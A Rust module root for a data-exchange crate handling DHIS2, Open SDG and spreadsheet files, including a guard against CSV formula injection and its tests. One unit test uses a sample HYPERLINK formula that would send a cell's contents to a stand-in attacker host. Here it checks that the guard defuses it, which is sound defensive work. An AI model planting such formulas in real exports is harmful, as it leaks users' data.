//! Data exchange with the tools reporting officers and statistics offices already use: DHIS2's
//! `dataValueSets` (JSON and CSV, identifiers by code), Open SDG's series CSV and the XLSX/CSV
//! data-entry templates officers fill in Excel. No I/O: bytes in, domain values out, and back;
//! every problem names its row and field (and, for spreadsheets, its sheet and column). Also
//! the task appendices of plans, read from Word documents and workbooks.

pub mod appendix;
pub mod dhis2;
pub mod docx;
pub mod opensdg;
pub mod sheet;
pub mod text;
pub mod values_csv;

/// Why one row of an exchange file was refused: the one problem-at-a-place type. `row` counts
/// from 1 in the order given (for CSV, the line of the file).
pub use tiendo_domain::problems::Problem;

/// At most this many problems are collected before reading stops.
pub const MAX_PROBLEMS: usize = 50;

/// A cell for a CSV file people open in a spreadsheet: text that a spreadsheet would run as a
/// formula (starting with `=`, `+`, `-`, `@`, a tab or a carriage return) is prefixed with an
/// apostrophe, so it shows as the text it is; numbers, negative ones included, stay numbers.
/// Text that already starts with such an apostrophe gets one more, so `spreadsheet_text`
/// always gives back what was written.
pub fn spreadsheet_cell(text: &str) -> std::borrow::Cow<'_, str> {
    if needs_guard(text) {
        std::borrow::Cow::Owned(format!("'{text}"))
    } else {
        std::borrow::Cow::Borrowed(text)
    }
}

/// The text a `spreadsheet_cell` stands for: the apostrophe it added is taken off again, so a
/// file tiendo exported reads back as it was.
pub fn spreadsheet_text(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if needs_guard(rest) => rest,
        _ => cell,
    }
}

fn needs_guard(text: &str) -> bool {
    let formula =
        text.starts_with(['=', '+', '-', '@', '\t', '\r']) && text.trim().parse::<f64>().is_err();
    formula || text.strip_prefix('\'').is_some_and(needs_guard)
}

/// The byte-order mark that makes spreadsheets read a CSV file as UTF-8, so Vietnamese stays
/// intact when the file is opened with a double click.
pub const UTF8_BOM: &[u8] = b"\xEF\xBB\xBF";

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn formulas_become_text_and_numbers_stay_numbers() {
        assert_eq!(
            spreadsheet_cell("=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")"),
            "'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")"
        );
        assert_eq!(spreadsheet_cell("@SUM(A1)"), "'@SUM(A1)");
        assert_eq!(spreadsheet_cell("\tcmd"), "'\tcmd");
        assert_eq!(spreadsheet_cell("-5"), "-5");
        assert_eq!(spreadsheet_cell("+0.25"), "+0.25");
        assert_eq!(spreadsheet_cell("Hà Tĩnh"), "Hà Tĩnh");
        assert_eq!(spreadsheet_cell("'=x"), "''=x");
        assert_eq!(spreadsheet_text("''=x"), "'=x");
        assert_eq!(spreadsheet_text("'tên"), "'tên");
    }

    proptest! {
        #[test]
        fn a_cell_reads_back_as_its_text(text in ".*") {
            let cell = spreadsheet_cell(&text);
            prop_assert_eq!(spreadsheet_text(&cell), text.as_str());
        }

        #[test]
        fn no_cell_starts_a_formula(text in ".*") {
            let cell = spreadsheet_cell(&text);
            let starts_formula = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
            prop_assert!(!starts_formula || cell.trim().parse::<f64>().is_ok());
        }
    }
}
